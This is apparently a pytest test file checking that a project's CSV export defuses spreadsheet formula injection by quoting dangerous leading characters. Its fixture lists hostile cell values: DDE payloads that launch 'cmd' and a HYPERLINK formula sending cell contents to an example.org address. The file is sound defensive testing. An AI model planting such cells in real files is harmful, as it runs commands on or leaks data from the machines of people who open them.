"""programma.csv against hostile input (issue 21): no cell a spreadsheet would run as a formula, and the
downloads page says how such a cell is written (OWASP's advice)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from types import MappingProxyType

import pytest
from bs4 import BeautifulSoup
from checks_support import build_once
from policy_trace.items import Item, Programme
from policy_trace.views import downloads
from test_publish import write_programme


def _item(item_id: str, title: str, **fields: str) -> Item:
    return Item(item_id, "criterium", title, "needs/a.md", 1, "", (), MappingProxyType(fields),
                MappingProxyType({}))


FORMULAS = {
    "CR-A": "=HYPERLINK(\"https://example.org/?\"&A1,\"klik\")",
    "CR-B": "+1+2",
    "CR-C": "-2+3+cmd|' /C calc'!A0",
    "CR-D": "@SUM(1+1)*cmd|' /C calc'!A0",
    "CR-E": "\t=1+1",
    "CR-F": "\r=1+1",
}


@pytest.mark.parametrize("item_id", sorted(FORMULAS))
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(item_id):
    title = FORMULAS[item_id]
    programme = Programme.from_items([_item(item_id, title, bron=title, streefwaarde="-5")])
    rows = list(csv.DictReader(io.StringIO(downloads.csv_text(programme, {}))))
    assert rows[0]["titel"] == "'" + title
    assert rows[0]["bron"] == "'" + title
    assert rows[0]["streefwaarde"] == "'-5"


def test_ordinary_cells_stay_as_they_are():
    item = _item("CR-GEWOON", "Aantal woningbranden", bron="CBS", streefwaarde="100")
    programme = Programme.from_items([item])
    rows = list(csv.DictReader(io.StringIO(downloads.csv_text(programme, {}))))
    assert (rows[0]["id"], rows[0]["titel"], rows[0]["bron"], rows[0]["streefwaarde"]) == (
        "CR-GEWOON", "Aantal woningbranden", "CBS", "100"
    )


def test_no_cell_of_the_csv_starts_a_formula():
    programme = Programme.from_items([_item(key, title, bron=title) for key, title in FORMULAS.items()])
    for row in csv.reader(io.StringIO(downloads.csv_text(programme, {}))):
        assert not [cell for cell in row if cell.startswith(downloads.FORMULA_STARTS)]


def test_the_downloads_page_says_how_cells_are_neutralised(tmp_path):
    srcdir = write_programme(tmp_path / "src")
    (srcdir / "downloads.md").write_text("# Downloads\n\n```{downloads}\n```\n", encoding="utf-8")
    index = srcdir / "index.md"
    pages = index.read_text(encoding="utf-8").replace("wijzigingen\n", "wijzigingen\ndownloads\n")
    index.write_text(pages, encoding="utf-8")
    app = build_once(srcdir, "html")
    page = BeautifulSoup((Path(app.outdir) / "downloads.html").read_text("utf-8"), "html.parser")
    text = " ".join(page.select_one("ul.pt-downloads").get_text(" ").split())
    assert (
        "Een cel die met =, +, -, @, een tab of een regeleinde begint, krijgt een ' ervoor (zoals OWASP "
        "aanraadt), zodat de spreadsheet haar als tekst toont en nooit als formule uitvoert: -5 staat er dus "
        "als '-5." in text
    )
    assert app.statuscode == 0
